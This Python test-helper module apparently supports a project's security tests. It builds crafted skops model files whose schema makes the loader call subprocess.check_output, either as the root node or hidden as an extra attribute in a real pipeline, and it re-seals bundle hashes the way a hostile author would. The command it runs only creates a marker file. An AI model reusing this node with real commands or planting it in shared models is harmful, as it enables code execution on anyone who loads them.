"""Crafted skops files, built with skops' own schema format, and a hostile author's re-sealing of a bundle.

A skops file is a zip holding `schema.json` (a tree of nodes, each naming `__module__`,
`__class__` and the `__loader__` that rebuilds it) plus array files. These helpers write the
attacks of issue 8: a function under a trusted-looking module as the root node, and the same
node hidden as an extra attribute inside a genuine pipeline.
"""

from __future__ import annotations

import io
import json
import sys
import zipfile
from pathlib import Path
from typing import Any

from skops.io._protocol import PROTOCOL

from dlradiomics.bundle import METADATA_FILE
from dlradiomics.bundle.files import sha256_bytes
from dlradiomics.bundle.metadata import DIGEST_FIELD, content_digest


def json_node(value: Any) -> dict:
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True}


def list_node(items: list[dict]) -> dict:
    return {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": items}


def tuple_node(items: list[dict]) -> dict:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": items}


def command_creating(marker: Path) -> list[str]:
    """A shell-free command whose only effect is to create `marker` (proof that code ran)."""
    return [sys.executable, "-c", f"open({str(marker)!r}, 'w').close()"]


def check_output_node(command: list[str]) -> dict:
    """The node of issue 8: `subprocess.check_output`, re-exported by `sklearn.utils._testing`, called
    with `command` by skops' `ConstructorFromReduceNode`."""
    return {"__class__": "check_output", "__module__": "sklearn.utils._testing",
            "__loader__": "ConstructorFromReduceNode",
            "content": tuple_node([list_node([json_node(part) for part in command])])}


def skops_file(schema: dict, members: dict[str, bytes] | None = None) -> bytes:
    """A skops archive (uncompressed, as skops writes it) holding `schema` and other members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for name, data in (members or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def crafted_root(command: list[str]) -> bytes:
    """A skops file whose root node runs `command`."""
    return skops_file({**check_output_node(command), "protocol": PROTOCOL, "_skops_version": "0.16.0"})


def read_skops(payload: bytes) -> tuple[dict, dict[str, bytes]]:
    """`(schema, other members)` of a skops archive."""
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        members = {name: archive.read(name) for name in archive.namelist() if name != "schema.json"}
        return json.loads(archive.read("schema.json")), members


def with_hidden_attribute(payload: bytes, node: dict, name: str = "_hidden") -> bytes:
    """A genuine skops file whose root object gains one extra attribute holding `node`."""
    schema, members = read_skops(payload)
    attributes = schema["content"]
    assert attributes["__loader__"] == "DictNode", "the root object's attributes are a DictNode"
    attributes["content"][name] = node
    attributes["key_types"]["content"].append({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"})
    return skops_file(schema, members)


def reseal(folder: Path) -> None:
    """Record the current files' hashes in `bundle.json` and re-sign its digest, as a hostile author
    producing the whole bundle would: the bundle's own integrity checks then pass, and only the
    audit of what the model holds stands between the file and the caller."""
    metadata_path = folder / METADATA_FILE
    document = json.loads(metadata_path.read_text())
    document["files"] = {name: sha256_bytes((folder / name).read_bytes()) for name in document["files"]}
    document[DIGEST_FIELD] = content_digest(document)
    metadata_path.write_text(json.dumps(document))


def edit_metadata(folder: Path, reseal_digest: bool = True, **changes: Any) -> None:
    """Change fields of `bundle.json` (and, by default, re-sign its digest so the schema is what refuses)."""
    metadata_path = folder / METADATA_FILE
    document = json.loads(metadata_path.read_text())
    document.update(changes)
    if reseal_digest:
        try:
            document[DIGEST_FIELD] = content_digest(document)
        except ValueError:  # NaN cannot be digested; the schema must refuse it first anyway
            pass
    metadata_path.write_text(json.dumps(document))
